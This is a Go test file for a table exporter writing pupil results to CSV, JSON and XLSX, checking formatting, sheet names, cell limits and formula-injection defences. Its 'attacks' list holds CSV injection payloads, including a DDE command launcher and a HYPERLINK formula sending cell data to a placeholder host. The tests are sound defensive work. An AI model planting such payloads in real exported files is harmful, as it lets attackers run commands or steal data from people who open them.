package table

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

var (
	berlin = time.FixedZone("CET", 3600)
	at     = time.Date(2026, 11, 24, 0, 30, 0, 0, berlin) // the day before in UTC
)

// class is a table with cells of every kind.
func class() Table {
	return Table{
		Title:   "9b: Fehlalarme",
		Columns: []Column{{"Name", KindText}, {"Punkte", KindNumber}, {"Anteil", KindPercent}, {"Tag", KindDay}, {"Abgegeben", KindMoment}},
		Frozen:  1,
		Rows: [][]Cell{
			{Text("Mutiger Otter"), Number(7.5), Number(0.625), Time(at), Time(at)},
			{Text("a;b,c\"d\ne"), Number(-3), Number(0.07), {}, {}},
			{{}, Number(1.0 / 3), Number(1), Text("gelöscht"), Time(time.Time{})},
			{Text(""), Number(math.NaN()), Number(math.Inf(1)), {}, {}},
		},
	}
}

// written is what a Write method writes.
func written(t *testing.T, write func(io.Writer) error) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func asCSV(t *testing.T, table Table, lang string) []byte {
	t.Helper()
	return written(t, func(w io.Writer) error { return table.WriteCSV(w, lang) })
}

// readCSV reads a file as a spreadsheet of the language does.
func readCSV(t *testing.T, file []byte, lang string) [][]string {
	t.Helper()
	text, ok := bytes.CutPrefix(file, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Errorf("no byte order mark: %q", file)
	}
	in := csv.NewReader(bytes.NewReader(text))
	if lang == "de" {
		in.Comma = ';'
	}
	records, err := in.ReadAll()
	if err != nil {
		t.Fatalf("%v: %q", err, file)
	}
	return records
}

// readXLSX opens a workbook.
func readXLSX(t *testing.T, table Table) (file *excelize.File, sheet string) {
	t.Helper()
	file, err := excelize.OpenReader(bytes.NewReader(written(t, table.WriteXLSX)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = file.Close() })
	if sheets := file.GetSheetList(); len(sheets) != 1 {
		t.Fatalf("the sheets are %q", sheets)
	}
	return file, file.GetSheetName(0)
}

// at returns the raw value, the type and the formula of a cell.
func look(t *testing.T, file *excelize.File, cell string) (value string, kind excelize.CellType) {
	t.Helper()
	sheet := file.GetSheetName(0)
	value, err := file.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if kind, err = file.GetCellType(sheet, cell); err != nil {
		t.Fatal(err)
	}
	if formula, err := file.GetCellFormula(sheet, cell); err != nil || formula != "" {
		t.Errorf("%s has the formula %q: %v", cell, formula, err)
	}
	return value, kind
}

func TestCSV(t *testing.T) {
	for lang, want := range map[string]string{
		"de": "\ufeffName;Punkte;Anteil;Tag;Abgegeben\r\n" +
			"Mutiger Otter;7,5;62,5%;2026-11-24;2026-11-24 00:30\r\n" +
			"\"a;b,c\"\"d\r\ne\";-3;7%;;\r\n" +
			";0,3333333333333333;100%;gelöscht;\r\n" +
			";;;;\r\n",
		"en": "\ufeffName,Punkte,Anteil,Tag,Abgegeben\r\n" +
			"Mutiger Otter,7.5,62.5%,2026-11-24,2026-11-24 00:30\r\n" +
			"\"a;b,c\"\"d\r\ne\",-3,7%,,\r\n" +
			",0.3333333333333333,100%,gelöscht,\r\n" +
			",,,,\r\n",
	} {
		if d := cmp.Diff(want, string(asCSV(t, class(), lang))); d != "" {
			t.Errorf("%s: %s", lang, d)
		}
	}
}

func TestJSON(t *testing.T) {
	want := `{"title":"9b: Fehlalarme","columns":[{"name":"Name","kind":"text"},{"name":"Punkte","kind":"number"},{"name":"Anteil","kind":"percent"},{"name":"Tag","kind":"day"},{"name":"Abgegeben","kind":"moment"}],"rows":[
["Mutiger Otter",7.5,0.625,"2026-11-24","2026-11-24T00:30:00+01:00"],
["a;b,c\"d\ne",-3,0.07,null,null],
[null,0.3333333333333333,1,"gelöscht",null],
[null,null,null,null,null]
]}
`
	got := written(t, class().WriteJSON)
	if d := cmp.Diff(want, string(got)); d != "" {
		t.Error(d)
	}
	var back struct {
		Title   string
		Columns []struct{ Name, Kind string }
		Rows    [][]any
	}
	if err := json.Unmarshal(got, &back); err != nil || len(back.Rows) != 4 || back.Columns[4].Kind != "moment" {
		t.Errorf("read back: %+v, %v", back, err)
	}
	empty := written(t, Table{Title: "<b>", Columns: []Column{{"=1", KindText}}}.WriteJSON)
	if string(empty) != "{\"title\":\"<b>\",\"columns\":[{\"name\":\"=1\",\"kind\":\"text\"}],\"rows\":[\n]}\n" {
		t.Errorf("a table without rows is %s", empty)
	}
}

func TestXLSX(t *testing.T) {
	file, sheet := readXLSX(t, class())
	if sheet != "9b  Fehlalarme" {
		t.Errorf("the sheet is called %q", sheet)
	}
	for cell, want := range map[string]struct {
		value string
		kind  excelize.CellType
		shown string
	}{
		"A1": {"Name", excelize.CellTypeInlineString, "Name"},
		"E1": {"Abgegeben", excelize.CellTypeInlineString, "Abgegeben"},
		"A2": {"Mutiger Otter", excelize.CellTypeInlineString, "Mutiger Otter"},
		"B2": {"7.5", excelize.CellTypeUnset, "7.5"}, // unset is a number
		"C2": {"0.625", excelize.CellTypeUnset, "63%"},
		"D2": {"46350", excelize.CellTypeUnset, "11-24-26"},
		"E2": {"46350.020833333336", excelize.CellTypeUnset, "11/24/26 00:30"},
		"A3": {"a;b,c\"d\ne", excelize.CellTypeInlineString, "a;b,c\"d\ne"},
		"B3": {"-3", excelize.CellTypeUnset, "-3"},
		"D3": {"", excelize.CellTypeUnset, ""},
		"A4": {"", excelize.CellTypeUnset, ""},
		"B4": {"0.333333333333333", excelize.CellTypeUnset, "0.3333333333"}, // spreadsheets count 15 digits
		"D4": {"gelöscht", excelize.CellTypeInlineString, "gelöscht"},
		"B5": {"", excelize.CellTypeUnset, ""},
	} {
		value, kind := look(t, file, cell)
		shown, err := file.GetCellValue(sheet, cell)
		if err != nil || value != want.value || kind != want.kind || shown != want.shown {
			t.Errorf("%s is %q, shown as %q, of type %v: %v; want %+v", cell, value, shown, kind, err, want)
		}
	}
	for _, cell := range []string{"A1", "E1", "A2", "B2"} {
		id, err := file.GetCellStyle(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		style, err := file.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if bold := style.Font != nil && style.Font.Bold; bold != strings.HasSuffix(cell, "1") {
			t.Errorf("%s is bold: %v", cell, bold)
		}
		if text := style.NumFmt == 49; text != (cell != "B2") {
			t.Errorf("%s has the format %d", cell, style.NumFmt)
		}
	}
	props, err := file.GetDocProps()
	if err != nil || props.Title != "9b: Fehlalarme" || props.Creator != "Eberbach" {
		t.Errorf("the workbook is %+v: %v", props, err)
	}
}

func TestXLSXStaysInSight(t *testing.T) {
	for frozen, want := range map[int]excelize.Panes{
		-1: {Freeze: true, YSplit: 1, TopLeftCell: "A2", ActivePane: "bottomLeft"},
		0:  {Freeze: true, YSplit: 1, TopLeftCell: "A2", ActivePane: "bottomLeft"},
		2:  {Freeze: true, XSplit: 2, YSplit: 1, TopLeftCell: "C2", ActivePane: "bottomRight"},
		9:  {Freeze: true, XSplit: 5, YSplit: 1, TopLeftCell: "F2", ActivePane: "bottomRight"},
	} {
		table := class()
		table.Frozen = frozen
		file, sheet := readXLSX(t, table)
		panes, err := file.GetPanes(sheet)
		panes.Selection = nil
		if d := cmp.Diff(want, panes); err != nil || d != "" {
			t.Errorf("%d columns: %v %s", frozen, err, d)
		}
	}
}

func TestXLSXWidths(t *testing.T) {
	table := Table{
		Columns: []Column{{"Nr", KindNumber}, {"Ein langer Name", KindNumber}, {"Text", KindText}, {"Zeilen", KindText}, {"Am", KindMoment}, {"Tag", KindDay}, {"Drittel", KindNumber}},
		Rows: [][]Cell{
			{Number(1), Number(2), Text(strings.Repeat("ä", 500)), Text("zwölf Zeichen\nkurz"), Time(at), Time(at), Number(1.0 / 3)},
		},
	}
	file, sheet := readXLSX(t, table)
	for column, want := range map[string]float64{"A": 8, "B": 17, "C": 62, "D": 15, "E": 18, "F": 12, "G": 12} {
		if got, err := file.GetColWidth(sheet, column); err != nil || got != want {
			t.Errorf("column %s is %v wide: %v; want %v", column, got, err, want)
		}
	}
}

func TestSheetName(t *testing.T) {
	for title, want := range map[string]string{
		"9b":                           "9b",
		"":                             "Eberbach",
		" ' ":                          "Eberbach",
		"History":                      "Eberbach",
		"HISTORY":                      "Eberbach",
		"9b / Politik: [Test]?":        "9b   Politik   Test",
		"'zitiert'":                    "zitiert",
		"a\nb\tc\x00":                  "a b c\ufffd",
		strings.Repeat("ä", 31):        strings.Repeat("ä", 31),
		strings.Repeat("ä", 32):        strings.Repeat("ä", 31),
		strings.Repeat("🦦", 16):        strings.Repeat("🦦", 15),
		strings.Repeat("a", 30) + "'b": strings.Repeat("a", 30),
	} {
		if got := sheetName(title); got != want {
			t.Errorf("%q names the sheet %q, want %q", title, got, want)
		}
		_, sheet := readXLSX(t, Table{Title: title, Columns: []Column{{"a", KindText}}})
		if sheet != want {
			t.Errorf("%q is read as the sheet %q, want %q", title, sheet, want)
		}
	}
}

// attacks are texts that some spreadsheet takes for a formula when they stand in a CSV file.
var attacks = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠x",
	" =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\"=1+1\"", "  \"=1",
	"=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x.example?\"&A1)", "-", "--", "+49 170", "=",
	"x;=1", "x,=1", "x\t=1", "x\n=1", "x\r\n-1", "x, \"=1+1\"&\"", "x;;@y",
}

// TestCSVIsDefused reads each attack as a spreadsheet would, whatever separator that expects.
func TestCSVIsDefused(t *testing.T) {
	table := Table{Columns: []Column{{"a", KindText}, {"=b", KindText}, {"c", KindNumber}}}
	for _, text := range attacks {
		table.Rows = append(table.Rows, []Cell{Text("a"), Text(text), Number(-1)}, []Cell{Text(text), Text("harmless = -1"), Number(+2)})
	}
	for _, lang := range []string{"de", "en"} {
		file := asCSV(t, table, lang)
		for i, record := range readCSV(t, file, lang) {
			for column, field := range record {
				if column < 2 && begins(field) {
					t.Errorf("%s: %q in row %d is a formula", lang, field, i)
				}
			}
			if i > 0 && record[2] != []string{"2", "-1"}[i%2] {
				t.Errorf("%s: the number in row %d is %q", lang, i, record[2])
			}
			if i > 0 && i%2 == 0 && record[1] != "harmless = -1" {
				t.Errorf("%s: a harmless text has become %q", lang, record[1])
			}
		}
		// Whoever cuts at every separator and line break, quotes or not, finds no formula but our negative numbers.
		for _, piece := range regexp.MustCompile(`[,;\t\r\n]`).Split(string(file), -1) {
			if begins(piece) && piece != "-1" {
				t.Errorf("%s: cut elsewhere, %q is a formula", lang, piece)
			}
		}
	}
}

// begins says whether a field begins like a formula once what spreadsheets skip is gone, or with what some drop.
func begins(field string) bool {
	if strings.HasPrefix(field, "\t") || strings.HasPrefix(field, "\n") {
		return true
	}
	field = strings.TrimLeft(field, " \t\r\n\"\u00a0\u200b\ufeff")
	return field != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(field)[0])
}

// TestXLSXHoldsNoFormula: an attack is a text like any other there, and needs no apostrophe.
func TestXLSXHoldsNoFormula(t *testing.T) {
	table := Table{Columns: []Column{{"=1+1", KindText}}}
	for _, text := range attacks {
		table.Rows = append(table.Rows, []Cell{Text(text)})
	}
	file, _ := readXLSX(t, table)
	for i, text := range slices.Insert(slices.Clone(attacks), 0, "=1+1") {
		value, kind := look(t, file, fmt.Sprintf("A%d", i+1))
		if value != lineBreaks.Replace(text) || kind != excelize.CellTypeInlineString {
			t.Errorf("%q is %q of type %v", text, value, kind)
		}
	}
}

// TestCodes: what somebody wrote looks as they wrote it, also where a workbook would take it for a character.
func TestCodes(t *testing.T) {
	for text, want := range map[string]string{
		"_x0041_":             "_x0041_",
		"_x0041_x0042_":       "_\u2060x0041_\u2060x0042_",
		"a_xDDD1_b":           "a_\u2060xDDD1_b",
		"_xd800_ and _x0041_": "_\u2060xd800_ and _\u2060x0041_",
		"_xD7FF_ _xE000_":     "_xD7FF_ _xE000_",
	} {
		file, _ := readXLSX(t, Table{Columns: []Column{{text, KindText}}, Rows: [][]Cell{{Text(text)}}})
		for _, cell := range []string{"A1", "A2"} {
			if got, _ := look(t, file, cell); got != want {
				t.Errorf("%s: %q is %q, want %q", cell, text, got, want)
			}
		}
	}
}

func TestClean(t *testing.T) {
	for text, want := range map[string]string{
		"a\x00b\x07\x1b":  "a\ufffdb\ufffd\ufffd",
		"\ufffe\uffff":    "\ufffd\ufffd",
		"\u0085\u007f":    "\ufffd\ufffd",
		"\xffa\xc3":       "\ufffda\ufffd",
		"a\r\nb\rc\nd\te": "a\nb\nc\nd\te",
		"_x0000_ & <t>":   "_x0000_ & <t>",
		"\U0001F9A6":      "\U0001F9A6",
	} {
		table := Table{Columns: []Column{{text, KindText}}, Rows: [][]Cell{{Text(text)}}}
		file, _ := readXLSX(t, table)
		for _, cell := range []string{"A1", "A2"} {
			if got, _ := look(t, file, cell); got != want {
				t.Errorf("%s: %q is %q, want %q", cell, text, got, want)
			}
		}
		for _, record := range readCSV(t, asCSV(t, table, "en"), "en") {
			if record[0] != want {
				t.Errorf("CSV: %q is %q, want %q", text, record[0], want)
			}
		}
		var back struct{ Rows [][]string }
		if err := json.Unmarshal(written(t, table.WriteJSON), &back); err != nil || back.Rows[0][0] != want {
			t.Errorf("JSON: %q is %q, want %q: %v", text, back.Rows, want, err)
		}
	}
}

// TestCut fills cells to the brim of what a spreadsheet takes.
func TestCut(t *testing.T) {
	full := strings.Repeat("ä", excelize.TotalCellChars)
	otters := strings.Repeat("🦦", excelize.TotalCellChars/2)
	for text, want := range map[string]string{
		full:           full,
		full + "a":     strings.Repeat("ä", excelize.TotalCellChars-1) + "…",
		otters + "a":   otters + "a",
		otters + "ab":  otters + "…",
		otters + "🦦":   otters + "…",
		"a" + otters:   "a" + otters,
		"ab" + otters:  "ab" + strings.Repeat("🦦", excelize.TotalCellChars/2-1) + "…",
		"abc" + otters: "abc" + strings.Repeat("🦦", excelize.TotalCellChars/2-2) + "…",
	} {
		file, _ := readXLSX(t, Table{Columns: []Column{{"a", KindText}}, Rows: [][]Cell{{Text(text)}}})
		if got, _ := look(t, file, "A2"); got != want {
			t.Errorf("%d bytes %.6q… %.9q are %d bytes …%q, want %d", len(text), text, text[len(text)-8:], len(got), got[len(got)-8:], len(want))
		}
	}
}

// brokenWriter takes some bytes and then no more.
type brokenWriter struct{ left int }

var errBroken = errors.New("broken")

func (w *brokenWriter) Write(p []byte) (int, error) {
	if len(p) > w.left {
		return w.left, errBroken
	}
	w.left -= len(p)
	return len(p), nil
}

func TestErrors(t *testing.T) {
	long := class()
	for range 2000 {
		long.Rows = append(long.Rows, long.Rows[0])
	}
	ragged := class()
	ragged.Rows = append(ragged.Rows, []Cell{Text("x")})
	for name, write := range map[string]func(Table, io.Writer) error{
		"csv":  func(t Table, w io.Writer) error { return t.WriteCSV(w, "de") },
		"json": Table.WriteJSON,
		"xlsx": Table.WriteXLSX,
	} {
		for _, left := range []int{0, 3, 100, 5000} {
			if err := write(long, &brokenWriter{left}); !errors.Is(err, errBroken) {
				t.Errorf("%s: after %d bytes that could be written: %v", name, left, err)
			}
		}
		for fault, bad := range map[string]Table{"row 5": ragged, "no columns": {Title: "x"}} {
			var buf bytes.Buffer
			if err := write(bad, &buf); err == nil || !strings.Contains(err.Error(), fault) || buf.Len() > 0 {
				t.Errorf("%s: %d bytes are written and the error is %v", name, buf.Len(), err)
			}
		}
	}
}

// TestManyPupils writes the largest table that is meant: 1,000 pupils and 40 columns.
func TestManyPupils(t *testing.T) {
	table := wide(1000, 40)
	file, sheet := readXLSX(t, table)
	rows, err := file.GetRows(sheet)
	if err != nil || len(rows) != 1001 || len(rows[1000]) != 40 || rows[1000][0] != "pupil 1000" || rows[1000][39] != "39.5" {
		t.Errorf("%d rows are read: %v", len(rows), err)
	}
	if records := readCSV(t, asCSV(t, table, "de"), "de"); len(records) != 1001 || records[1000][39] != "39,5" {
		t.Errorf("%d records are read", len(records))
	}
}

func wide(rows, columns int) Table {
	table := Table{Title: "wide", Columns: []Column{{"Name", KindText}}, Frozen: 1}
	for i := 1; i < columns; i++ {
		table.Columns = append(table.Columns, Column{fmt.Sprint("question ", i), KindNumber})
	}
	for i := range rows {
		row := []Cell{Text(fmt.Sprint("pupil ", i+1))}
		for j := 1; j < columns; j++ {
			row = append(row, Number(float64(j)+0.5))
		}
		table.Rows = append(table.Rows, row)
	}
	return table
}

func BenchmarkXLSX(b *testing.B) {
	table := wide(1000, 40)
	b.ReportAllocs()
	for b.Loop() {
		if err := table.WriteXLSX(io.Discard); err != nil {
			b.Fatal(err)
		}
	}
}

// FuzzTable takes any text for a cell, a head and a title. What a spreadsheet reads is the text, but for what clean
// changes and, in CSV, the apostrophes; and it is never a formula.
func FuzzTable(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	for _, s := range []string{"", " ", " a ", "_x0041_", "_x005F_x0041_", "_xDDD1_", "_x000D_\n", "\x00\xff\ufffe", "\"", "]]>", "&amp;", "\\.", "🦦", "'=1", "a,b;c\td"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		want := clean(text)
		table := Table{Title: text, Columns: []Column{{text, KindText}, {"b", KindNumber}}, Rows: [][]Cell{{Text(text), Number(-1)}}}
		for _, lang := range []string{"de", "en"} {
			for _, record := range readCSV(t, asCSV(t, table, lang), lang) {
				if begins(record[0]) {
					t.Errorf("%s: %q is a formula", lang, record[0])
				}
				if got := fused(record[0]); got != fused(want) {
					t.Errorf("%s: %q is read as %q, without apostrophes %q", lang, text, record[0], got)
				}
			}
		}
		var back struct {
			Title string
			Rows  [][]any
		}
		if err := json.Unmarshal(written(t, table.WriteJSON), &back); err != nil || back.Title != want || want != "" && back.Rows[0][0] != want {
			t.Errorf("%q is read as %+v from JSON: %v", text, back, err)
		}
		if want = apart(want); want != cut(want) {
			return
		}
		file, _ := readXLSX(t, table)
		for _, cell := range []string{"A1", "A2"} {
			if got, _ := look(t, file, cell); got != want {
				t.Errorf("%s: %q is read as %q", cell, text, got)
			}
		}
	})
}

// fused takes away the apostrophes that defuse may have put there.
func fused(s string) string {
	if len(s) > 1 && s[0] == '\'' && (s[1] == '\t' || s[1] == '\n') {
		s = s[1:]
	}
	return regexp.MustCompile(`(^|[,;\t\n])'+([\p{Z}\p{Cf}"]*[=+\-@＝＋－＠])`).ReplaceAllString(s, "$1$2")
}
